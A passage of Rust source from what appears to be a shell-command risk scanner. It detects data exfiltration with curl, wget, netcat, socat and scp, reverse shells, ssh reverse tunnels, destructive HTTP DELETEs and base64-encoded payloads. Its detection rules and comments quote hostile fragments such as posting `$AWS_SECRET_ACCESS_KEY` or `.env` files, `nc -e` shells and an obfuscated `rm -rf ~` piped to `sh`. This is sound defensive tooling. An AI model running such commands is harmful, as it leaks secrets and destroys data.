    "--proxy-user",
    "--max-filesize",
    "--interface",
];

fn curl(cmd: &Command, scan: &mut Scan<'_>) {
    scan.network = true;
    let args = cmd.args();
    let mut urls = Vec::new();
    let mut data = Vec::new();
    let mut index = 0;
    while let Some(arg) = args.get(index) {
        let (flag, inline) = match arg.split_once('=') {
            Some((flag, value)) if flag.starts_with("--") => (flag, Some(value)),
            _ => (arg.as_str(), None),
        };
        // Short options glued to their value: `-dfoo`, `-Ffile=@x`.
        let glued = (flag.len() > 2 && !flag.starts_with("--") && flag.starts_with('-'))
            .then(|| {
                flag.get(..2)
                    .filter(|short| CURL_DATA.contains(short))
                    .map(|short| (short, flag.get(2..).unwrap_or("")))
            })
            .flatten();
        if let Some((_, value)) = glued {
            data.push(value.to_string());
        } else if CURL_DATA.contains(&flag) {
            let value = inline.map(str::to_string).or_else(|| {
                index += 1;
                args.get(index).cloned()
            });
            data.extend(value);
        } else if flag == "--url" {
            let value = inline.map(str::to_string).or_else(|| {
                index += 1;
                args.get(index).cloned()
            });
            urls.extend(value);
        } else if CURL_VALUED.contains(&flag) {
            if inline.is_none() {
                index += 1;
            }
        } else if !arg.starts_with('-') {
            urls.push(arg.clone());
        }
        index += 1;
    }
    let stdin_data = reads_stdin(cmd, scan);
    let method = request_method(args);
    for url in &urls {
        let Some(host) = url_place(url) else { continue };
        http_delete(scan, method.as_deref(), &host, url, sends_credential(args));
        if is_local(&host) {
            continue;
        }
        let sends = !data.is_empty()
            || stdin_data
            || method
                .as_deref()
                .is_some_and(|m| matches!(m, "POST" | "PUT" | "PATCH"));
        if sends {
            money(scan, &host, url);
        }
        if let Some(risk) = metadata_risk(&host) {
            scan.add(risk);
        }
        for value in &data {
            let file = value
                .rsplit_once('@')
                .map(|(_, f)| f)
                .or_else(|| value.strip_prefix('<'))
                .or(Some(value.as_str()));
            if let Some(file) = file {
                file_leaves(scan, file, &host);
            }
            if ENV_DUMPERS
                .iter()
                .any(|d| value.contains(&format!("$({d}")) || value.contains(&format!("`{d}")))
            {
                env_leaves(scan, &format!("send the environment to {host}"));
            }
            // A secret from the environment as the request's data (`-d "k=$AWS_SECRET_ACCESS_KEY"`),
            // not as the credential a header signs it with: it leaves.
            if let Some(name) = super::words::expanded_secret(value) {
                secret_leaves(scan, name, &host);
            }
        }
        if !data.is_empty() || stdin_data {
            send(scan, &host, "send data");
        } else if carries_data(url) {
            fetch_data(scan, &host);
        } else if is_drop_box(&host) && !downloads_only(cmd) {
            send(scan, &host, "reach");
        }
    }
}

/// The method a request names: `-X DELETE`, `-XDELETE`, `--request DELETE`,
/// `--request=DELETE`, `--method DELETE` (gh api), `--method=DELETE` (wget), upper-cased.
fn request_method(args: &[String]) -> Option<String> {
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        let value = match arg.as_str() {
            "-X" | "--request" | "--method" => words.next().cloned(),
            other => other
                .strip_prefix("--request=")
                .or_else(|| other.strip_prefix("--method="))
                .or_else(|| other.strip_prefix("-X").filter(|rest| !rest.is_empty()))
                .map(str::to_string),
        };
        if let Some(value) = value {
            return Some(value.trim_matches(['\'', '"']).to_ascii_uppercase());
        }
    }
    None
}

/// An HTTP request that deletes what its address names: the DELETE method, or the delete
/// endpoints of Elasticsearch and OpenSearch (`_delete_by_query`) and Jenkins (`doDelete`).
/// What a service elsewhere deletes can't be brought back from the work folder; production
/// in the address makes it severe, and so does the person's credential sent with it to
/// another host (`-H "Authorization: token $GITHUB_TOKEN"`, `-u user:pass`): what it
/// deletes is theirs, as an app's delete is (seed 001).
pub(super) fn http_delete(
    scan: &mut Scan<'_>,
    method: Option<&str>,
    host: &str,
    url: &str,
    signed: bool,
) {
    let lower = url.to_ascii_lowercase();
    let endpoint = ["_delete_by_query", "/dodelete"]
        .iter()
        .any(|mark| lower.contains(mark));
    if method != Some("DELETE") && !endpoint {
        return;
    }
    let path = lower
        .split_once("://")
        .map_or(lower.as_str(), |(_, rest)| rest)
        .split_once('/')
        .map_or("", |(_, path)| path);
    let production = path
        .split(|c: char| !c.is_ascii_alphanumeric())
        .any(|part| matches!(part, "prod" | "production" | "prd" | "live"));
    let what = if path.is_empty() { "/" } else { path };
    // A service on this machine holds a developer's own data (a dev server's items): what it
    // deletes is theirs to make again. Anywhere else it can't be brought back from here, nor
    // from a datastore here, whose data lives in its own store (an index, a bucket, a
    // database: `curl -X DELETE localhost:9200/logs`), nor everything at once (`_all`, `*`).
    let lasting = !is_local(host) || local_datastore(&lower, path);
    // On this machine a production index is a local copy, and the credential the developer's
    // own datastore's: neither makes it severe there.
    let local = is_local(host);
    let harm = if (production || signed) && !local {
        Harm::Severe
    } else {
        Harm::Moderate
    };
    let mut wish = Wish::new(Act::Delete).naming(Name::AnyOf(host_names(host)));
    if production {
        wish = wish.naming(Name::Production);
    }
    scan.add(
        Risk::new(
            RuleId::NetDelete,
            harm,
            lasting,
            format!("delete /{what} at {host} over HTTP"),
        )
        .way_out()
        .wish(wish),
    );
}

/// The ports of datastores whose HTTP API deletes what they keep: Elasticsearch and
/// OpenSearch, Meilisearch, Typesense, Solr, CouchDB, InfluxDB, ClickHouse, Qdrant, Consul,
/// etcd, Vault, Nomad and RabbitMQ's management API.
const DATASTORE_PORTS: &[&str] = &[
    "15672", "2379", "4646", "5984", "6333", "7700", "8086", "8108", "8123", "8200", "8500",
    "8983", "9200",
];

/// Does a DELETE at `url` (lower case) on this machine reach a datastore's own data: one of
/// [`DATASTORE_PORTS`], an API path of a datastore (`_all`, `_data_stream`, `_snapshot`,
/// `_delete_by_query`, `.kibana`), or every item at once (`*`)?
fn local_datastore(url: &str, path: &str) -> bool {
    let authority = url
        .split_once("://")
        .map_or(url, |(_, rest)| rest)
        .split(['/', '?'])
        .next()
        .unwrap_or("");
    let port = authority.rsplit_once(':').map(|(_, port)| port);
    port.is_some_and(|port| DATASTORE_PORTS.contains(&port))
        || path.split(['/', ',', '?']).any(|part| {
            part == "*"
                || part.starts_with("_all")
                || part.starts_with("_data_stream")
                || part.starts_with("_snapshot")
                || part.starts_with("_delete_by_query")
                || part.starts_with(".kibana")
        })
}

/// Does a request carry a credential: an authorization header or a token's (`-H
/// "Authorization: Bearer …"`, `X-API-Key: …`, httpie's `Authorization:…`), a user and
/// password (`-u user:pass`, `--user`), curl's `--oauth2-bearer`, or a variable named for a
/// secret (`$GITHUB_TOKEN`)?
fn sends_credential(args: &[String]) -> bool {
    args.iter().enumerate().any(|(at, arg)| {
        let lower = arg.to_ascii_lowercase();
        let header = [
            "authorization:",
            "private-token:",
            "x-api-key:",
            "api-key:",
            "x-auth-token:",
        ]
        .iter()
        .any(|name| lower.contains(name));
        let user = matches!(lower.as_str(), "-u" | "--user" | "-a" | "--auth")
            && args.get(at + 1).is_some_and(|v| v.contains(':'));
        let variable = lower.contains('$')
            && ["token", "secret", "password", "api_key", "apikey"]
                .iter()
                .any(|name| lower.contains(name));
        header || user || variable || lower.starts_with("--oauth2-bearer")
    })
}

/// The kind of secret file a command reads on its standard input (`base64 < .env`), if it
/// does.
fn secret_input(cmd: &Command, scan: &Scan<'_>) -> Option<&'static str> {
    cmd.redirects
        .iter()
        .filter(|r| r.op == RedirectOp::Read && r.fd.is_none_or(|fd| fd == 0))
        .find_map(|r| secret_file(&r.target, scan))
}

/// A file sent to `host`: a key file or a secrets file leaving, when it is one.
pub(super) fn file_leaves(scan: &mut Scan<'_>, file: &str, host: &str) {
    match secret_file(file, scan) {
        Some("keys") => key_leaves(scan, &format!("send a key file to {host}")),
        Some(_) => env_leaves(scan, &format!("send {file} to {host}")),
        None => {}
    }
}

/// A GET whose address carries data rather than asks for a page (carriesData).
pub(super) fn fetch_data(scan: &mut Scan<'_>, host: &str) {
    scan.add(
        Risk::new(
            RuleId::EgressFetchData,
            Harm::Moderate,
            true,
            format!("open an address at {host} that carries data rather than asks for a page"),
        )
        .way_out()
        .wish(Wish::new(Act::Send).naming(Name::AnyOf(host_names(host)))),
    );
}

fn downloads_only(cmd: &Command) -> bool {
    !cmd.args()
        .iter()
        .any(|a| matches!(a.as_str(), "-X" | "--request"))
}

/// Data reaches the command's standard input: a file (not `/dev/null`), a here-document, or
/// a pipe from a stage that prints something (a bare `echo` prints a blank line).
fn reads_stdin(cmd: &Command, scan: &Scan<'_>) -> bool {
    let redirected = cmd.redirects.iter().any(|r| match r.op {
        RedirectOp::Read => !crate::law::paths::is_sink(&r.target),
        RedirectOp::HereDoc | RedirectOp::HereString => !r.target.trim().is_empty(),
        _ => false,
    });
    let piped = scan.pipeline(cmd.pipeline).any(|c| {
        c.stage < cmd.stage
            && !(matches!(c.program(), "echo" | "printf")
                && positional(c.args()).is_empty()
                && c.redirects.iter().all(|r| r.op != RedirectOp::Read))
    });
    redirected || piped
}

fn wget(args: &[String], scan: &mut Scan<'_>) {
    scan.network = true;
    // A wgetrc command given by `-e` (`-e post_file=.env`, `--execute 'method = POST'`) is the
    // option of the same name: read as `--post-file=.env`.
    let mut read: Vec<String> = Vec::with_capacity(args.len());
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        let command = match arg.as_str() {
            "-e" | "--execute" => words.next().map(String::as_str),
            other => other.strip_prefix("--execute=").or_else(|| {
                other
                    .strip_prefix("-e")
                    .filter(|rest| !rest.is_empty() && rest.contains('='))
            }),
        };
        match command {
            Some(command) => {
                let (name, value) = command.split_once('=').unwrap_or((command, ""));
                let name = name.trim().replace('_', "-").to_ascii_lowercase();
                read.push(format!("--{name}={}", value.trim()));
            }
            None => read.push(arg.clone()),
        }
    }
    let args = &read[..];
    let urls: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
    let posts: Vec<&String> = args
        .iter()
        .filter(|a| {
            a.starts_with("--post-") || a.starts_with("--body-") || a.starts_with("--method=P")
        })
        .collect();
    let method = request_method(args);
    for url in urls {
        let Some(host) = url_place(url) else { continue };
        http_delete(scan, method.as_deref(), &host, url, sends_credential(args));
        if !posts.is_empty() {
            money(scan, &host, url);
        }
        if let Some(risk) = metadata_risk(&host) {
            scan.add(risk);
        }
        for post in &posts {
            if let Some(file) = post.split_once('=').map(|(_, v)| v)
                && post.contains("file")
            {
                file_leaves(scan, file, &host);
            }
        }
        // `--post-data="$AWS_SECRET_ACCESS_KEY"`, `--body-data "$NPM_TOKEN"`: a secret of the
        // environment as the data.
        let data = args
            .iter()
            .enumerate()
            .filter_map(|(at, arg)| match arg.split_once('=') {
                Some(("--post-data" | "--body-data", value)) => Some(value),
                None if matches!(arg.as_str(), "--post-data" | "--body-data") => {
                    args.get(at + 1).map(String::as_str)
                }
                _ => None,
            });
        for value in data {
            if let Some(name) = super::words::expanded_secret(value)
                && !is_local(&host)
            {
                secret_leaves(scan, name, &host);
            }
        }
        if !posts.is_empty() {
            send(scan, &host, "send data");
        } else if carries_data(url) && !is_local(&host) {
            fetch_data(scan, &host);
        }
    }
}

fn httpie(args: &[String], scan: &mut Scan<'_>) {
    scan.network = true;
    let words = positional(args);
    // The method, in either case (`xh post …`, `http POST …`).
    const METHODS: &[&str] = &["get", "post", "put", "patch", "delete", "head", "options"];
    let method = words
        .first()
        .map(|w| w.to_ascii_lowercase())
        .filter(|w| METHODS.contains(&w.as_str()))
        .map(|w| w.to_ascii_uppercase());
    let method_given = method.is_some();
    let rest = if method_given {
        words.get(1..).unwrap_or(&[])
    } else {
        &words[..]
    };
    let Some(url) = rest.first() else { return };
    let Some(host) =
        url_host(url).or_else(|| url.starts_with(':').then(|| "localhost".to_string()))
    else {
        return;
    };
    if method_given {
        http_delete(scan, method.as_deref(), &host, url, sends_credential(args));
    }
    // A body's field (`name=a`, `n:=1`) or a file (`@f`, `name@f`, `name=@f`); a query's
    // (`q==1`) asks for a page.
    let sends = rest
        .iter()
        .skip(1)
        .any(|item| item.contains('@') || (item.contains('=') && !item.contains("==")));
    if sends || matches!(method.as_deref(), Some("POST" | "PUT" | "PATCH")) {
        money(scan, &host, url);
    }
    if sends {
        for item in rest.iter().skip(1) {
            if let Some((_, file)) = item.split_once('@') {
                file_leaves(scan, file, &host);
            }
        }
        send(scan, &host, "send data");
    }
}

fn copy_out(program: &str, args: &[String], scan: &mut Scan<'_>) {
    scan.network = true;
    let words = positional(args);
    // The values of scp's and rsync's options that take one (`-o StrictHostKeyChecking=no`,
    // `-i key`, `-P 2222`, `-e ssh`) aren't what is copied.
    let valued: &[&str] = if program == "scp" {
        &["-o", "-i", "-P", "-F", "-c", "-l", "-S", "-J", "-D"]
    } else {
        &["-e", "--rsh"]
    };
    let values: Vec<&str> = args
        .windows(2)
        .filter(|pair| valued.contains(&pair[0].as_str()))
        .map(|pair| pair[1].as_str())
        .collect();
    let words: Vec<&str> = words.into_iter().filter(|w| !values.contains(w)).collect();
    let Some((dest, sources)) = words.split_last() else {
        return;
    };
    // One operand is no copy at all (scp says how it is used).
    if sources.is_empty() {
        return;
    }
    let Some(host) = remote_end(dest) else { return };
    if is_local(&host) {
        return;
    }
    for source in sources {
        match secret_file(source, scan) {
            Some("keys") => key_leaves(scan, &format!("copy {source} to {host}")),
            Some(_) => env_leaves(scan, &format!("copy {source} to {host}")),
            None => {}
        }
    }
    send(scan, &host, &format!("copy files with {program}"));
}

fn netcat(cmd: &Command, scan: &mut Scan<'_>) {
    scan.network = true;
    let args = cmd.args();
    let executes = args.iter().any(|a| {
        matches!(
            a.as_str(),
            "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
        ) || (a.starts_with('-')
            && !a.starts_with("--")
            && (a.contains('e') || a.contains('c'))
            && a.len() <= 6
            && !a.contains('z'))
    });
    let listens = has_flag(args, Some('l'), &["listen"]);
    if executes {
        reverse(
            scan,
            if listens {
                "a bind shell (nc -l -e)"
            } else {
                "a reverse shell (nc -e)"
            },
        );
        return;
    }
    if listens {
        scan.add(
            Risk::new(
                RuleId::TunnelOpen,
                Harm::Severe,
                true,
                "listen for connections from the network (nc -l)".to_string(),
            )
            .way_out()
            .wish(Wish::new(Act::Public)),
        );
        return;
    }
    if has_flag(args, Some('z'), &[]) {
        return;
    }
    let words = positional(args);
    if let Some(host) = words.first() {
        let followed_by_shell = scan
            .pipeline(cmd.pipeline)
            .any(|c| c.stage > cmd.stage && is_shell(c.program()));
        if followed_by_shell {
            reverse(scan, "a shell reading commands from a network connection");
        } else if reads_stdin(cmd, scan) {
            send(scan, &host.to_lowercase(), "send data with netcat");
        } else {
            send(scan, &host.to_lowercase(), "open a raw connection");
        }
    }
}

fn socat(args: &[String], scan: &mut Scan<'_>) {
    scan.network = true;
    let lower: Vec<String> = args.iter().map(|a| a.to_lowercase()).collect();
    if lower.iter().any(|a| {
        a.starts_with("exec:")
            || a.starts_with("system:")
            || a.contains(",exec")
            || a.contains("exec:")
    }) {
        reverse(scan, "a shell wired to a network socket (socat exec)");
    } else if lower.iter().any(|a| a.contains("listen")) {
        scan.add(
            Risk::new(
                RuleId::TunnelOpen,
                Harm::Severe,
                true,
                "listen for connections from the network (socat)".to_string(),
            )
            .way_out()
            .wish(Wish::new(Act::Public)),
        );
    } else if let Some(host) = lower.iter().find_map(|a| {
        SOCAT_CONNECTS
            .iter()
            .find_map(|prefix| a.strip_prefix(prefix))
    }) {
        let host = host.split([':', ',']).next().unwrap_or(host);
        // `socat -u file:.env tcp-connect:host:port`: a file sent as it is.
        for file in lower.iter().filter_map(|a| {
            a.strip_prefix("file:")
                .or_else(|| a.strip_prefix("open:"))
                .map(|f| f.split(',').next().unwrap_or(f))
        }) {
            file_leaves(scan, file, host);
        }
        send(scan, host, "open a raw connection with socat");
    }
}

/// socat's addresses that connect out to a host.
const SOCAT_CONNECTS: &[&str] = &[
    "tcp:",
    "tcp4:",
    "tcp6:",
    "tcp-connect:",
    "tcp4-connect:",
    "tcp6-connect:",
    "udp:",
    "udp4:",
    "udp6:",
    "udp-connect:",
    "udp-sendto:",
    "openssl:",
    "openssl-connect:",
    "ssl:",
];

/// ssh options that take a value.
const SSH_VALUED: &[&str] = &[
    "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q",
    "-R", "-S", "-W", "-w", "-B",
];

/// The options a short word of ssh's gives (`-fL` is `-f` and `-L`), up to the first that
/// takes a value, and whether that value is the next word (`-fL 8080:db:22`, not `-p22`).
fn ssh_short(arg: &str) -> (Vec<char>, bool) {
    let mut letters = Vec::new();
    let Some(cluster) = arg.strip_prefix('-').filter(|c| !c.starts_with('-')) else {
        return (letters, false);
    };
    for (at, letter) in cluster.char_indices() {
        letters.push(letter);
        let mut flag = [0u8; 8];
        let flag = format!("-{}", letter.encode_utf8(&mut flag));
        if SSH_VALUED.contains(&flag.as_str()) {
            return (letters, at + letter.len_utf8() == cluster.len());
        }
    }
    (letters, false)
}

fn ssh(cmd: &Command, scan: &mut Scan<'_>) {
    scan.network = true;
    let args = cmd.args();
    if args.iter().any(|a| ssh_short(a).0.contains(&'R'))
        || args.iter().any(|a| a.contains("RemoteForward"))
    {
        scan.add(
            Risk::new(
                RuleId::TunnelOpen,
                Harm::Severe,
                true,
                "open a reverse tunnel (ssh -R) that exposes this machine".to_string(),
            )
            .way_out()
            .wish(Wish::new(Act::Public)),
        );
        return;
    }
    let mut rest = Vec::new();
    let mut index = 0;
    while let Some(arg) = args.get(index) {
        if ssh_short(arg).1 {
            index += 1;
        } else if !arg.starts_with('-') {
            rest.push(arg.as_str());
        }
        index += 1;
    }
    let Some(destination) = rest.first() else {
        return;
    };
    let host = destination
        .trim_start_matches("ssh://")
        .rsplit_once('@')
        .map_or(*destination, |(_, h)| h);
    let host = host.split(':').next().unwrap_or(host).to_lowercase();
    if is_local(&host) {
        return;
    }
    if reads_stdin(cmd, scan) {
        send(scan, &host, "send data over ssh");
    }
    // A session with no command is one too: what is typed into it runs there. Not a forge's
    // `git@` login, which only says who you are (`ssh -T git@github.com`), nor what only
    // prints ssh's configuration or talks to a running master (`-G`, `-Q`, `-O`).
    let session = rest.len() == 1
        && !destination.starts_with("git@")
        && !args
            .iter()
            .any(|a| matches!(a.as_str(), "-G" | "-Q" | "-O"));
    if rest.len() > 1 || session {
        let does = if session {
            format!("open a session on {host}")
        } else {
            format!("run a command on {host}")
        };
        scan.add(
            Risk::new(RuleId::RemoteExec, Harm::Moderate, true, does)
                .way_out()
                .wish(Wish::new(Act::Run).naming(Name::AnyOf(host_names(&host)))),
        );
    }
}

/// Options of the remote terminal and desktop clients that take a value (rdesktop's `-u
/// user -p password -d domain -g geometry -a depth -k keymap -r device`, PuTTY's `-pw`, `-P`,
/// `-l`, `-i`, `-load`, vncviewer's `-passwd`, telnet's `-l`): their values are no host.
const SESSION_VALUED: &[&str] = &[
    "-a", "-d", "-g", "-i", "-k", "-l", "-load", "-P", "-p", "-passwd", "-port", "-pw", "-r", "-u",
];

/// The host a remote terminal or desktop client (`Class::Session`) opens a session on: its
/// `/v:` (FreeRDP, mstsc) or `-c`/`--connect` value, else its first operand once the
/// options' values are passed over (`putty -ssh admin@host -pw x`, `rdesktop -u a -p b
/// host`), as a URL (`rdp://u@h`, `spice://h:5900`), `user@host`, `host:port` or a VNC display
/// `host:1` / `host::5901`. telnet given a port other than its own (23) talks to that
/// service, not a login: none.
fn session_host(program: &str, args: &[String]) -> Option<String> {
    let mut given = None;
    let mut operands = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if let Some(value) = arg
            .strip_prefix("/v:")
            .or_else(|| arg.strip_prefix("/server:"))
        {
            given = Some(value.to_string());
        } else if matches!(arg.as_str(), "-c" | "--connect") {
            given = words.next().cloned();
        } else if let Some(value) = arg.strip_prefix("--connect=") {
            given = Some(value.to_string());
        } else if SESSION_VALUED.contains(&arg.as_str()) {
            words.next();
        } else if !arg.starts_with('-') && !arg.starts_with('/') {
            operands.push(arg.as_str());
        }
    }
    if program == "telnet"
        && operands
            .get(1)
            .is_some_and(|port| *port != "23" && *port != "telnet")
    {
        return None;
    }
    let target = given.or_else(|| operands.first().map(|o| (*o).to_string()))?;
    let target = target
        .split_once("://")
        .map_or(target.as_str(), |(_, rest)| rest);
    let target = target.rsplit_once('@').map_or(target, |(_, host)| host);
    let host = target
        .split(['/', ':'])
        .next()
        .unwrap_or(target)
        .to_lowercase();
    (!host.is_empty()).then_some(host)
}

/// What follows another program's `ssh` subcommand (one of its first two words), when a
/// host comes after it: a user's address (`alice@host`) or a dotted name (`host.example.com`).
fn ssh_to_host(args: &[String]) -> Option<&[String]> {
    let at = args
        .iter()
        .enumerate()
        .filter(|(_, a)| !a.starts_with('-'))
        .take(2)
        .find(|(_, a)| *a == "ssh")
        .map(|(at, _)| at)?;
    let rest = args.get(at + 1..)?;
    let names_host = rest.iter().any(|a| {
        !a.starts_with('-')
            && !a.contains(['/', '$'])
            && (a
                .split_once('@')
                .is_some_and(|(user, host)| !user.is_empty() && !host.is_empty())
                || looks_like_host(a))
    });
    names_host.then_some(rest)
}

/// A session opened on another machine by a remote terminal or desktop client: what is typed
/// or clicked there runs there, as `ssh host` (`remote.exec`).
fn remote_session(program: &str, args: &[String], scan: &mut Scan<'_>) {
    let asks_help = args.iter().any(|a| {
        matches!(
            a.as_str(),
            "-h" | "--help" | "/help" | "-help" | "--version" | "/version"
        )
    });
    let Some(host) = session_host(program, args).filter(|_| !asks_help) else {
        return;
    };
    scan.network = true;
    if is_local(&host) {
        return;
    }
    scan.add(
        Risk::new(
            RuleId::RemoteExec,
            Harm::Moderate,
            true,
            format!("open a session on {host} ({program})"),
        )
        .way_out()
        .wish(Wish::new(Act::Run).naming(Name::AnyOf(host_names(&host)))),
    );
}

/// Code written to a file by `echo` or `printf` that wires a shell to the network: a reverse
/// shell dropped to be compiled or run later.
/// Only when the same line goes on to use the file (`go run f`, `bash f`, `./f`): a fixture
/// written and left alone is inert text.
fn dropped_code(cmd: &Command, scan: &mut Scan<'_>) {
    let written: Vec<&str> = cmd
        .redirects
        .iter()
        .filter(|r| {
            matches!(r.op, RedirectOp::Write | RedirectOp::Append)
                && !crate::law::paths::is_sink(&r.target)
        })
        .map(|r| super::paths::basename_of(&r.target))
        .collect();
    // Most commands write no file: the rest of the line is walked only for one that does.
    if written.is_empty() || !Marks::of(&cmd.args().join(" ").to_lowercase()).wires_shell() {
        return;
    }
    let used_later = scan.line.commands.iter().any(|other| {
        !std::ptr::eq(other, cmd)
            && !matches!(other.program(), "echo" | "printf" | "rm" | "cat" | "ls")
            && other
                .words
                .iter()
                .any(|w| written.contains(&super::paths::basename_of(w)))
    });
    if used_later {
        reverse(
            scan,
            "code that wires a shell to a network socket, written to a file",
        );
        scan.network = true;
    }
}

/// Do the words of code say it wires a shell to a socket (one names a socket, another runs
/// a command)? What stands for code a reader could not read to its end.
pub(super) fn wires_shell_by_words(code: &str) -> bool {
    Marks::of(&code.to_lowercase()).wires_shell()
}

/// Is the code a command gives its interpreter read by a reader of its language, every
/// piece of it?
fn read_by_reader(cmd: &Command, scan: &Scan<'_>) -> bool {
    let sources = crate::law::code::sources(cmd, scan.line);
    !sources.is_empty()
        && sources
            .iter()
            .all(|source| crate::law::code::has_own_reader(source.lexicon.language))
}

/// Code given to an interpreter on its command line (`python -c`, `perl -e`, `awk '…'`).
fn interpreter_code(cmd: &Command, scan: &mut Scan<'_>) {
    let mut code: String = cmd.args().join(" ");
    // Code fed on standard input by a here-document or here-string is code too.
    for redirect in &cmd.redirects {
        if matches!(redirect.op, RedirectOp::HereDoc | RedirectOp::HereString) {
            code.push(' ');
            code.push_str(&redirect.target);
        }
    }
    // Lower case once, in place when it is ASCII (a here-document of kilobytes is not copied
    // again). The pieces are joined by spaces, which no casing reads across: the same text as
    // each piece lowered on its own.
    let code = if code.is_ascii() {
        code.make_ascii_lowercase();
        code
    } else {
        code.to_lowercase()
    };
    let marks = Marks::of(&code);
    sends::code_sends(cmd, &code, marks, scan);
    serve::code_serves(cmd, marks, scan);
    // Code a reader of its language reads (`law::code`) is judged by what it does: a socket
    // made and a command run apart (a free port found, then `subprocess.run`) are no reverse
    // shell, and `command::code` asks where the reader could not read it all. Its words alone
    // stand for code no reader reads.
    if marks.wires_shell() && !read_by_reader(cmd, scan) {
        reverse(
            scan,
            &format!(
                "{} code that wires a shell to a network socket",
                cmd.program()
            ),
        );
        scan.network = true;
    }
    if marks.has(Mark::Decodes) && marks.has(Mark::Evaluates) {
        blob(
            scan,
            &format!("{} runs code it decodes from a blob", cmd.program()),
        );
    }
    // PowerShell's `-EncodedCommand` (any prefix of it from `-e`) runs a base64 blob.
    let program = cmd.program();
    if bare(program) == "pwsh" {
        let encoded = cmd.args().windows(2).any(|pair| {
            let flag = pair[0].to_ascii_lowercase();
            let flag = flag.trim_start_matches('-');
            pair[0].starts_with('-')
                && !flag.is_empty()
                && ("encodedcommand".starts_with(flag) || flag == "ec")
                && flag.starts_with('e')
                && pair[1].len() >= 16
                && pair[1]
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
        });
        if encoded {
            blob(scan, &format!("{program} runs a command encoded in base64"));
        }
    }
}

fn blob(scan: &mut Scan<'_>, what: &str) {
    scan.add(
        Risk::new(
            RuleId::BlobDecodeRun,
            Harm::Severe,
            true,
            format!("{what}, so nobody can read what runs"),
        )
        .never()
        .way_out(),
    );
}

fn is_decoder(cmd: &Command) -> bool {
    let program = cmd.program();
    let args = cmd.args();
    if let Some((_, flags)) = DECODES_WHEN.iter().find(|(name, _)| *name == program) {
        return args.iter().any(|a| flags.contains(&a.as_str()));
    }
    if UNPACKS_WHEN_TOLD.contains(&program) {
        return has_flag(args, Some('d'), &["decompress", "uncompress", "decode"]);
    }
    match program {
        "xxd" => args.iter().any(|a| a.starts_with("-r")),
        "openssl" => args
            .iter()
            .any(|a| a == "-d" || a == "-base64" || a == "base64"),
        "printf" => args
            .iter()
            .any(|a| a.contains("\\x") || a.contains("\\0") || a.contains("\\1")),
        "echo" => args.iter().any(|a| a == "-e") && args.iter().any(|a| a.contains("\\x")),
        // Letters swapped back (`echo 'ro -es ~' | tr 'oe' 'mr' | sh`), a line reversed,
        // `zcat`, `uudecode`: the catalogue's other decoders always decode.
        _ => catalogue::is(program, Class::Decoder),
    }
}

/// A database dump a compressor gives back, restored (`zcat dump.sql.gz | psql app`, `gzip
/// -cd db.sql.gz | mysql app`): what runs is that file's SQL, as `psql app < dump.sql` runs
/// it, not a blob the line carries; the database rules judge where it goes. Into a shell or
/// an interpreter a compressed file stays a blob nobody read (`gunzip -c x.gz | sh`), and so
/// does text fed to the compressor, a file a line that downloads or decodes anything else may
/// have just written (`curl -o x.gz URL && zcat x.gz | psql`), and any encoding.
fn restores_dump(cmd: &Command, line: &crate::shell::Line) -> bool {
    let program = cmd.program();
    let compressor = UNPACKS_WHEN_TOLD.contains(&program)
        || matches!(
            program,
            "bunzip2"
                | "bzcat"
                | "gunzip"
                | "lz4cat"
                | "lzcat"
                | "unlzma"
                | "unxz"
                | "unzstd"
                | "xzcat"
                | "zcat"
                | "zstdcat"
        );
    let into_database = line
        .commands
        .iter()
        .filter(|c| c.pipeline == cmd.pipeline && c.stage > cmd.stage && is_runner(c))
        .all(|c| catalogue::is(c.program(), Class::Database));
    compressor
        && into_database
        && !line
            .commands
            .iter()
            .any(|c| is_downloader(c.program()) || (!std::ptr::eq(c, cmd) && is_decoder(c)))
        && positional(cmd.args())
            .iter()
            .any(|w| *w != "-" && !w.starts_with("/dev/") && !w.contains(['$', '`']))
}

fn is_runner(cmd: &Command) -> bool {
    let program = cmd.program();
    let args = cmd.args();
    // `busybox sh`: the applet is the program.
    if matches!(program, "busybox" | "toybox")
        && args.first().is_some_and(|a| is_shell(a) || reads_code(a))
    {
        return is_runner(&cmd.with_words(args.to_vec()));
    }
    // `deno run -`, `bun run -`: the subcommand that runs a file (here its input).
    if matches!(program, "deno" | "bun") && args.first().is_some_and(|a| a == "run") {
        let words = positional(args.get(1..).unwrap_or(&[]));
        return words.is_empty() || words.first() == Some(&"-");
    }
    // What names the reader's own input: `-`, `/dev/stdin`, `/dev/fd/0`.
    let input = |word: Option<&&str>| {
        word.is_some_and(|w| matches!(*w, "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0"))
    };
    if is_shell(program) {
        // `bash script.sh` runs a file, not its input; `bash`, `bash -s`, `bash -` run the input.
        let words = positional(args);
        return words.is_empty() || input(words.first()) || args.iter().any(|a| a == "-s");
    }
    // `curl … | source /dev/stdin`: the shell that runs the line runs its input.
    if matches!(program, "source" | ".") {
        return input(positional(args).first());
    }
    if crate::law::code::console_reads_input(cmd) {
        return true;
    }
    if reads_code(program) {
        let words = positional(args);
        return words.is_empty() || input(words.first());
    }
    runs_its_input(cmd)
}

/// Programs that run what comes on their input by an option or by what they are: awk and
/// make given their program as `-f -`, a database client with no statement or file of its
/// own (`psql`, `mysql`, `sqlite3 app.db`: what it reads is SQL, and sqlite3's `.shell`),
/// `xargs sh -c`, `su` (`su -c sh`, or alone), and a command that hands its input to a
/// shell somewhere else (`ssh host` with no command or a shell, `docker exec -i web sh`,
/// `kubectl exec -i pod -- sh`).
fn runs_its_input(cmd: &Command) -> bool {
    let program = cmd.program();
    let args = cmd.args();
    let from_stdin = |option: &str| {
        args.windows(2)
            .any(|pair| pair[0] == option && matches!(pair[1].as_str(), "-" | "/dev/stdin"))
    };
    let rest_runs =
        |words: &[String]| !words.is_empty() && is_runner(&cmd.with_words(words.to_vec()));
    match program {
        _ if catalogue::program(program)
            .and_then(|p| p.code)
            .is_some_and(|code| code.language == catalogue::Language::Awk) =>
        {
            from_stdin("-f")
        }
        "make" | "gmake" | "bmake" => from_stdin("-f") || from_stdin("--file"),
        _ if catalogue::is(program, Class::Database) => {
            let own = [
                "-c",
                "--command",
                "-f",
                "--file",
                "-e",
                "--execute",
